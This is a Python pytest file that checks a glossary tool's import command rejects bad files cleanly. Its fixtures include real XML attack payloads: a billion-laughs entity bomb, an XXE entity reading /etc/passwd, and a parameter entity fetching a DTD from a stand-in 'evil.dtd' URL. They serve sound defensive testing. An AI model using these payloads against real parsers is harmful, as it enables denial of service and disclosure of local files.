"""Bad input to ``glossary import``: one clear line on stderr, exit code 2, nothing written."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from glossary.errors import GlossaryError
from glossary.formats import tmx

GOOD_TU = ('<tu tuid="oman"><tuv xml:lang="zh-CN"><seg>阿曼</seg></tuv>'
           '<tuv xml:lang="en-US"><seg>Oman</seg></tuv></tu>')
HEADER = ('<header creationtool="x" creationtoolversion="1" segtype="phrase" o-tmf="x" '
          'adminlang="en" srclang="zh-CN" datatype="plaintext"/>')

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE tmx [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<tmx version="1.4">""" + HEADER + """<body><tu><tuv xml:lang="zh-CN"><seg>阿曼&lol4;</seg></tuv>
<tuv xml:lang="en-US"><seg>Oman</seg></tuv></tu></body></tmx>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<tmx version="1.4">""" + HEADER + """<body><tu><tuv xml:lang="zh-CN"><seg>阿曼</seg></tuv>
<tuv xml:lang="en-US"><seg>&secret;</seg></tuv></tu></body></tmx>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE martif [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
<martif type="TBX-Basic" xml:lang="en"><martifHeader><fileDesc><sourceDesc><p/></sourceDesc>
</fileDesc></martifHeader><text><body/></text></martif>
"""
NETWORK_DTD = """<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "http://example.com/tmx14.dtd">
<tmx version="1.4">""" + HEADER + "<body>" + GOOD_TU + "</body></tmx>\n"
UNDEFINED_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "tmx14.dtd">
<tmx version="1.4">""" + HEADER + """<body>
<tu><tuv xml:lang="zh-CN"><seg>阿曼&nbsp;</seg></tuv></tu></body></tmx>
"""
MALFORMED = """<?xml version="1.0"?>
<tmx version="1.4">
""" + HEADER + """
<body>
<tu><tuv xml:lang="zh-CN"><seg>阿曼</tuv></tu>
</body></tmx>
"""
NO_HEADER = '<?xml version="1.0"?>\n<tmx version="1.4">\n<body>' + GOOD_TU + "</body></tmx>\n"
PO_SYNTAX = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "阿曼"\nmsgstr "Oman\n'


@pytest.fixture
def project(small_glossary) -> Path:
    return small_glossary.parent


def snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def run_import(cli, project: Path, name: str, content: str | bytes, *args: str):
    path = project / name
    if isinstance(content, str):
        path.write_text(content, encoding="utf-8")
    else:
        path.write_bytes(content)
    before = snapshot(project / "glossary")
    result = cli("import", name, *args, cwd=project)
    assert result.code == 2, (result.out, result.err)
    assert snapshot(project / "glossary") == before, "nothing may be written"
    lines = result.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("glossary: error: "), result.err
    return lines[0]


@pytest.mark.parametrize("name, content, expected", [
    ("bad.tmx", MALFORMED, r"bad\.tmx:5: malformed XML: .*mismatch"),
    ("nohead.tmx", NO_HEADER, r"nohead\.tmx:3: TMX without a <header>"),
    ("laughs.tmx", BILLION_LAUGHS, r"laughs\.tmx:3: the document declares an entity lol"),
    ("xxe.tmx", XXE, r"xxe\.tmx:2: the document declares an entity secret"),
    ("param.tbx", PARAMETER_ENTITY, r"param\.tbx:2: the document declares an entity remote"),
    ("net.tmx", NETWORK_DTD, r"net\.tmx:2: the DOCTYPE points at a DTD by URL"),
    ("undefined.tmx", UNDEFINED_ENTITY, r"undefined\.tmx:4: malformed XML: the entity &nbsp; is not defined"),
    ("syntax.po", PO_SYNTAX, r"syntax\.po:6: malformed PO: syntax error"),
    ("missing.csv", "source,gloss\n阿曼,Oman\n", r"missing\.csv:1: CSV header has no 'target' column"),
    ("missing.tsv", "word\ten\n阿曼\tOman\n", r"missing\.tsv:1: .*'source'"),
    ("tmx.po", "<?xml version='1.0'?><tmx version='1.4'/>", r"tmx\.po: the file is TMX, not gettext PO"),
    ("po.tmx", 'msgid "a"\nmsgstr "b"\n', r"po\.tmx: the file is PO, not TMX"),
    ("empty.tmx", "", r"empty\.tmx: the file is CSV/TSV, not TMX"),
    ("page.xml", "<html><body/></html>", r"page\.xml: cannot import XML of another kind"),
    ("unterminated.csv", 'source,target\n"阿曼,Oman\n', r"unterminated\.csv:\d+: malformed CSV"),
])
def test_bad_files(cli, project, name, content, expected):
    import re

    line = run_import(cli, project, name, content)
    assert re.search(expected, line), line


def test_format_other_than_the_one_named(cli, project):
    line = run_import(cli, project, "terms.tmx", NO_HEADER.replace("<body>", HEADER + "<body>"),
                      "--format", "tbx")
    assert "the file is TMX, not TBX" in line and "--format tmx" in line


@pytest.mark.parametrize("option, value", [("--src-lang", "xx-YY"), ("--tgt-lang", "zh-CN"),
                                           ("--trad-lang", "zh--TW")])
def test_unknown_language_code(cli, project, option, value):
    line = run_import(cli, project, "ok.tmx", NO_HEADER.replace("<body>", HEADER + "<body>"),
                      option, value)
    assert option in line


def test_binary_file(cli, project):
    run_import(cli, project, "blob.csv", b"\x00\x01\x02\xff" * 10)


def test_on_conflict_fail_is_exit_2(cli, project):
    text = "source,target\n阿拉格齐,Araghchi\n"
    line = run_import(cli, project, "c.csv", text, "--on-conflict", "fail")
    assert "c.csv:2" in line and "nothing was written" in line
    line = run_import(cli, project, "c.csv", text, "--on-conflict", "merge")
    assert "--on-conflict" in line


def test_safe_parser_never_expands_entities(tmp_path):
    path = tmp_path / "x.tmx"
    path.write_text(BILLION_LAUGHS, encoding="utf-8")
    start = time.perf_counter()
    with pytest.raises(GlossaryError, match="entity"):
        list(tmx.iter_units(path))
    assert time.perf_counter() - start < 1


def test_local_dtd_references_are_fine(tmp_path):
    path = tmp_path / "ok.tmx"
    path.write_text('<?xml version="1.0"?>\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n<tmx version="1.4">'
                    + HEADER + "<body>" + GOOD_TU + "</body></tmx>", encoding="utf-8")
    assert [u.tuid for u in tmx.iter_units(path)] == ["oman"]
    assert tmx.read_header(path).srclang == "zh-CN"


def _write_tmx(path: Path, count: int) -> None:
    with open(path, "w", encoding="utf-8") as out:
        out.write('<?xml version="1.0"?>\n<tmx version="1.4">' + HEADER + "<body>\n")
        for n in range(count):
            out.write(f'<tu tuid="{n}"><prop type="x-n">{n}</prop><tuv xml:lang="zh-CN"><seg>'
                      f'第{n}句话，内容比较长，用来占据一些内存。</seg></tuv><tuv xml:lang="en-US"><seg>'
                      f"Sentence number {n}, long enough to take some memory.</seg></tuv></tu>\n")
        out.write("</body></tmx>\n")


_MEASURE = """
import resource, sys
from glossary.formats.tmx import iter_units
count = 0
for unit in iter_units(sys.argv[1]):
    count += 1
    assert unit.line == count + 2
print(count, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def test_large_tmx_is_streamed(tmp_path):
    """A 15 MB TMX is read with the memory of a 0.2 MB one (iterparse, elements cleared)."""
    import subprocess
    import sys

    peaks = {}
    for count in (800, 60000):
        path = tmp_path / f"tm{count}.tmx"
        _write_tmx(path, count)
        out = subprocess.run([sys.executable, "-c", _MEASURE, str(path)], check=True,
                             capture_output=True, text=True).stdout.split()
        assert int(out[0]) == count
        peaks[count] = int(out[1])  # KiB
    size_kib = (tmp_path / "tm60000.tmx").stat().st_size // 1024
    assert size_kib > 14000
    assert peaks[60000] - peaks[800] < 8000, (peaks, size_kib)
